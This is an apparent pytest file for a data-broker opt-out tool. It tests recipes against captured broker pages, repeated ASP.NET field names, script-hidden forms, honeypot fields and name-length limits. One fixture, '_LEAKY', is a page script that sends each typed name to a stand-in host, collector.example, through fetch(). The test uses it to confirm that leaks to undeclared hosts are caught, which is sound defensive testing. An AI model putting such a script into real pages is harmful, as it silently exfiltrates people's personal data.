"""Real brokers' pages (issue 12): every captured page that carries a form is covered by a recipe
whose own test replays it, and `optout recipe check` runs those tests offline.

The captures are The Markup / CalMatters' (Apache-2.0, credited in brokers/fixtures/README.md);
each recipe's fixture is a byte-for-byte copy of one of them, which is how a page is known to be
covered. Engine faults those pages showed are tested here as classes, on small pages of their kind.
"""

import filecmp
import json
import shutil
from pathlib import Path
from urllib.parse import parse_qsl

import httpx
import pytest
import yaml

from optout.recipe.check import check_recipes
from optout.recipe.loader import load_catalogue
from optout.settings import Settings

from .conftest import requires_browser

ROOT = Path(__file__).resolve().parent.parent
BROKERS = ROOT / "brokers"
FIXTURES = BROKERS / "fixtures"
REAL = Path("/work/shared/data/real-pages")
INDEX = json.loads((REAL / "index.json").read_text()) if (REAL / "index.json").is_file() else []

#: Captured pages with a form (or form fields) that this branch does not cover, and why: issue 12's
#: part B covers them (and its own test, tests/test_real_pages.py, requires every page covered).
PENDING = {
    "5x5data.com-20250731.html": "issue 12, part B",
    "clientcommand.com-20250731.html": "issue 12, part B",
    "comscore.com-20250731.html": "issue 12, part B",
    "medprosystems.com-20250731.html": "issue 12, part B",
}


def page_recipes() -> dict[str, str]:
    """{fixture path relative to brokers/fixtures: recipe id} for every recipe test with flow: optout and page:."""
    out = {}
    for path in sorted(BROKERS.glob("*.yaml")):
        data = yaml.safe_load(path.read_text(encoding="utf-8"))
        for t in data.get("tests") or []:
            if t.get("flow") == "optout" and t.get("page"):
                out[t["page"]] = data["id"]
    return out


def json_out(text: str):
    lines = text.splitlines()
    start = next(i for i, line in enumerate(lines) if line in ("[", "{"))
    return json.loads("\n".join(lines[start:]))


def settings(tmp_path) -> Settings:
    return Settings(data_dir=tmp_path / "data", browser={"step_timeout": 5, "navigation_timeout": 15})


@pytest.mark.skipif(not INDEX, reason=f"the real-page captures are not on this machine ({REAL})")
def test_every_captured_page_with_a_form_is_covered_by_a_recipe_test():
    covered = {}
    for page, rid in page_recipes().items():
        for e in INDEX:
            if filecmp.cmp(FIXTURES / page, REAL / e["file"], shallow=False):
                covered[e["file"]] = rid
    with_form = {e["file"] for e in INDEX if e["forms"] or e["inputs"]}
    missing = with_form - set(covered) - set(PENDING)
    assert not missing, f"captured pages with a form and no recipe test replaying them: {sorted(missing)}"
    # the ones this part of the issue covers
    assert {covered[f] for f in ("iqvia.com-20250731.html", "dealerx.com-20250731.html",
                                 "roundsky.com-20250731.html")} == {"iqvia", "dealerx", "roundsky"}


@requires_browser
async def test_recipe_check_runs_every_real_page_recipe_offline_and_all_pass(tmp_path, capsys):
    ids = sorted(set(page_recipes().values()))
    assert {"uspeoplesearch", "brightcheck", "fourthwall", "iqvia", "dealerx", "roundsky"} <= set(ids)
    code = await check_recipes(load_catalogue([BROKERS]), ids, settings(tmp_path), as_json=True)
    rows = json_out(capsys.readouterr().out)
    assert code == 0, [r for r in rows if r["result"] != "ok"]
    assert {r["recipe"] for r in rows} == set(ids) and all(r["test"] != "(schema)" for r in rows)


def _variant(tmp_path, rid: str, old: str, new: str) -> Path:
    d = tmp_path / "brokers"
    (d / "fixtures").mkdir(parents=True)
    shutil.copytree(FIXTURES / rid, d / "fixtures" / rid)
    text = (BROKERS / f"{rid}.yaml").read_text()
    assert old in text
    (d / f"{rid}.yaml").write_text(text.replace(old, new, 1))
    return d


@requires_browser
async def test_a_tick_box_left_unticked_fails_the_test_that_expects_it_ticked(tmp_path, capsys):
    """A box's value attribute ("true") was read as what it holds, ticked or not: a recipe that never
    ticked "delete" passed its test."""
    d = _variant(tmp_path, "iqvia", "    - action: check\n      label: The right to delete my personal information\n", "")
    code = await check_recipes(load_catalogue([d]), ["iqvia"], settings(tmp_path), as_json=True)
    rows = json_out(capsys.readouterr().out)
    assert code == 1 and rows[0]["result"] == "FAIL"
    assert rows[0]["detail"] == ("#fxb_00000000-0000-0000-0000-000000000000_Fields_5a8972be-ebf7-4aff-864d-"
                                 "638b14f0b05f__Value does not hold the expected value")


# ---- several fields under one name (ASP.NET, Sitecore Forms: the IQVIA form) ----------------------

_TWINS = """<html><body><form method="post" action="/request">
<input type="hidden" name="Fields.Index" value="a1">
<label><input type="checkbox" name="Fields[a1].Value" value="true"> Delete my data</label>
<input type="hidden" name="Fields[a1].Value" value="false">
<input type="hidden" name="Fields.Index" value="b2">
<label><input type="checkbox" name="Fields[b2].Value" value="true"> Send me a copy</label>
<input type="hidden" name="Fields[b2].Value" value="false">
<input type="hidden" name="Fields.Index" value="c3">
<label for="n">Your Name</label><input id="n" type="text" name="Fields[c3].Value">
<label><input type="checkbox" name="topics" value="ads" checked> Ads</label>
<label><input type="checkbox" name="topics" value="sale"> Sale</label>
<input type="submit" value="Submit">
</form></body></html>"""


async def test_the_http_channel_sends_every_field_that_shares_a_name_as_a_browser_would():
    """The http channel kept one value per name: Sitecore's repeated Fields.Index lost all but the
    last, and a ticked box's hidden "false" twin overwrote it."""
    from optout.channels.http import HttpChannel
    from optout.ratelimit import RateLimiter
    from optout.recipe.replay import Recorded, field_value
    from optout.recipe.schema import Locator

    url = "https://broker.example/privacy"
    recorded = Recorded({url: _TWINS, "POST https://broker.example/request": "<p>Received.</p>"}, ["broker.example"])
    http = HttpChannel(Settings().network, None, RateLimiter(6000))
    await http.client.aclose()
    http.client = httpx.AsyncClient(transport=recorded.transport(), follow_redirects=False)
    try:
        page = http.page("x", ["broker.example"])
        await page.goto(url)
        await page.check(Locator(label="Delete my data"))
        await page.check(Locator(label="Sale"))
        await page.fill(Locator(label="Your Name"), "Jordan")
        assert await field_value(page, "input[type=checkbox][name='Fields[a1].Value']") == "true"
        assert await field_value(page, "input[type=checkbox][name='Fields[b2].Value']") == ""
        await page.click(Locator(selector="input[type=submit]"))
    finally:
        await http.close()
    sent = parse_qsl(recorded.posted[-1][1].decode(), keep_blank_values=True)
    assert sent == [
        ("Fields.Index", "a1"), ("Fields[a1].Value", "true"), ("Fields[a1].Value", "false"),
        ("Fields.Index", "b2"), ("Fields[b2].Value", "false"),
        ("Fields.Index", "c3"), ("Fields[c3].Value", "Jordan"),
        ("topics", "ads"), ("topics", "sale"),
    ]


# ---- a form hidden until its scripts run (DealerX's Gravity Forms wrapper): issue 12, kind 4 -------


@requires_browser
async def test_show_must_stand_in_for_something_the_capture_hides(tmp_path, capsys):
    """`show:` un-hides what the unrecorded scripts would show; a selector that hides nothing is an
    error, so the stand-in cannot quietly paper over anything else."""
    d = _variant(tmp_path, "dealerx", 'show: ["#gform_wrapper_76"]', 'show: ["#gform_wrapper_76", "#main-content"]')
    code = await check_recipes(load_catalogue([d]), ["dealerx"], settings(tmp_path), as_json=True)
    rows = json_out(capsys.readouterr().out)
    assert code == 1 and [r["result"] for r in rows] == ["FAIL", "ok"]
    assert rows[0]["detail"] == ("show: #main-content matches nothing the recorded page hides: the stand-in has "
                                 "nothing to stand in for")


async def test_the_http_channel_says_a_field_is_in_a_part_hidden_until_a_script_shows_it():
    from optout.channels.http import HttpChannel
    from optout.errors import SelectorNotFound
    from optout.ratelimit import RateLimiter
    from optout.recipe.replay import Recorded
    from optout.recipe.schema import Locator

    url = "https://broker.example/privacy"
    html = ('<div id="w" style="display:none"><form method="post"><label for="n">Name</label>'
            '<input id="n" name="n"><input type="submit"></form></div>')
    http = HttpChannel(Settings().network, None, RateLimiter(6000))
    await http.client.aclose()
    http.client = httpx.AsyncClient(transport=Recorded({url: html}, ["broker.example"]).transport())
    try:
        page = http.page("x", ["broker.example"])
        await page.goto(url)
        with pytest.raises(SelectorNotFound) as e:
            await page.fill(Locator(label="Name"), "Jordan")
    finally:
        await http.close()
    assert "hidden until the page's script shows it" in str(e.value)


# ---- a page that is not a form to fill: an e-mail recipe's page test (Round Sky) -----------------


@requires_browser
async def test_an_email_recipe_test_fails_when_the_page_no_longer_names_its_address(tmp_path, capsys):
    d = _variant(tmp_path, "roundsky", "    to: contact@roundsky.com", "    to: privacy@roundsky.com")
    code = await check_recipes(load_catalogue([d]), ["roundsky"], settings(tmp_path), as_json=True)
    rows = json_out(capsys.readouterr().out)
    assert code == 1 and rows[0]["detail"] == "the page does not show 'privacy@roundsky.com'"


def test_an_email_recipe_is_tested_as_email_and_a_form_recipe_never_is(tmp_path):
    from optout.recipe.loader import load_recipe

    text = (BROKERS / "roundsky.yaml").read_text()
    bad = tmp_path / "roundsky.yaml"
    bad.write_text(text.replace("      outcome: letter", "      outcome: submitted"))
    with pytest.raises(Exception) as e:
        load_recipe(bad)
    assert "an opt-out by email is tested with expect.outcome letter" in str(e.value)
    bad.write_text((BROKERS / "iqvia.yaml").read_text().replace("      outcome: needs_human", "      outcome: letter"))
    with pytest.raises(Exception) as e:
        load_recipe(bad)
    assert "tested with expect.outcome needs_human, submitted, confirmed or failed" in str(e.value)


# ---- a field hidden by a CSS class and out of the keyboard's reach (IQVIA's "Middle Name") --------


def test_a_field_hidden_by_its_class_with_tabindex_minus_one_is_a_honeypot_to_the_detector_and_scaffold():
    """The captured IQVIA form's "Middle Name" (class "… hidden", tabindex=-1) was listed as a field
    to fill, and `recipe new --page` mapped it to the person's middle name."""
    from optout.recipe.detect import analyse
    from optout.recipe.kit import scaffold

    report = analyse((FIXTURES / "iqvia" / "do-not-sell.html").read_text(encoding="utf-8"))
    (form,) = report.forms
    assert [f.caption for f in form.fields if f.honeypot] == ["Middle Name"]
    assert "Middle Name" not in [f.caption for f in form.visible_fields]
    assert "Your Name" in [f.caption for f in form.visible_fields]
    text = scaffold("iqvia2", "https://www.iqvia.com/about-us/privacy/ccpa/do-not-sell", page="iqvia/p.html",
                    report=report)
    assert "middle_name" not in text and "Middle Name" not in text


@pytest.mark.parametrize("attrs, usable", [
    ('class="form-control hidden" tabindex="-1"', False),
    ('class="form-control d-none" tabindex="-1"', False),
    ('class="form-control hidden"', True),  # a script may show it: a person could reach it then
    ('class="form-control" tabindex="-1"', True),  # labelled and not hidden: an odd field, not a trap
])
async def test_the_http_channel_never_fills_a_class_hidden_unreachable_field(attrs, usable):
    from optout.channels.http import HttpChannel
    from optout.errors import SelectorNotFound
    from optout.ratelimit import RateLimiter
    from optout.recipe.replay import Recorded
    from optout.recipe.schema import Locator

    url = "https://broker.example/privacy"
    html = (f'<form method="post"><label for="m">Middle Name</label><input id="m" name="m" {attrs}>'
            '<input type="submit"></form>')
    http = HttpChannel(Settings().network, None, RateLimiter(6000))
    await http.client.aclose()
    http.client = httpx.AsyncClient(transport=Recorded({url: html}, ["broker.example"]).transport())
    try:
        page = http.page("x", ["broker.example"])
        await page.goto(url)
        if usable:
            await page.fill(Locator(label="Middle Name"), "Avery")
        else:
            with pytest.raises(SelectorNotFound, match="only a honeypot matches"):
                await page.fill(Locator(label="Middle Name"), "Avery")
    finally:
        await http.close()


# ---- a replay proves nothing went to an undeclared host -------------------------------------------

_LEAKY = """<html><body><form method="post" action="/optout">
<label for="n">Your name</label><input id="n" name="n">
<button type="submit">Send</button></form>
<script>
document.getElementById('n').addEventListener('input', (e) =>
  fetch('https://collector.example/c?v=' + encodeURIComponent(e.target.value), {mode: 'no-cors'}));
</script></body></html>"""

_LEAKY_RECIPE = """id: leaky
name: Leaky
url: https://www.leaky.example/
domains: [leaky.example]
inputs: [full_name]
verified: {status: unverified, how: a test page}
optout:
  channel: browser
  steps:
    - action: navigate
      url: https://www.leaky.example/optout
    - action: fill
      label: Your name
      value: ${full_name}
    - action: human
      kind: other
      instructions: Send the form.
tests:
  - name: the form is filled
    flow: optout
    page: leaky/optout.html
    url: https://www.leaky.example/optout
    expect:
      outcome: needs_human
      human: other
      filled: {"#n": "${full_name}"}
"""


@requires_browser
async def test_a_replayed_page_that_sends_the_persons_values_to_an_undeclared_host_fails_its_test(tmp_path, capsys):
    """The guard blocks the request; the test must still fail, naming the host, even when the leak
    comes at the last step (no later step trips over the page marked hostile)."""
    d = tmp_path / "brokers"
    (d / "fixtures" / "leaky").mkdir(parents=True)
    (d / "fixtures" / "leaky" / "optout.html").write_text(_LEAKY)
    (d / "leaky.yaml").write_text(_LEAKY_RECIPE)
    code = await check_recipes(load_catalogue([d]), ["leaky"], settings(tmp_path), as_json=True)
    rows = json_out(capsys.readouterr().out)
    assert code == 1, rows
    assert "collector.example" in rows[0]["detail"] and "does not declare" in rows[0]["detail"]
    # the same page without the leak passes: the failure is the leak's
    (d / "fixtures" / "leaky" / "optout.html").write_text(_LEAKY.replace("collector.example", "www.leaky.example"))
    code = await check_recipes(load_catalogue([d]), ["leaky"], settings(tmp_path), as_json=True)
    assert code == 0, json_out(capsys.readouterr().out)


@requires_browser
async def test_a_name_longer_than_iqvias_40_characters_fails_saying_so_and_is_never_cut(tmp_path, capsys):
    """Two surnames and particles pass 40 characters; the field's maxlength must stop the flow."""
    d = _variant(tmp_path, "iqvia", "      label: Your Name\n      value: ${full_name}",
                 "      label: Your Name\n      value: ${full_name} de los ${full_name}")
    code = await check_recipes(load_catalogue([d]), ["iqvia"], settings(tmp_path), as_json=True)
    rows = json_out(capsys.readouterr().out)
    assert code == 1
    assert "optout.steps[4] (fill): the field takes at most 40 characters and the value has" in rows[0]["detail"]
    assert "does not hold the expected value" in rows[0]["detail"]  # nothing (no cut name) is in it
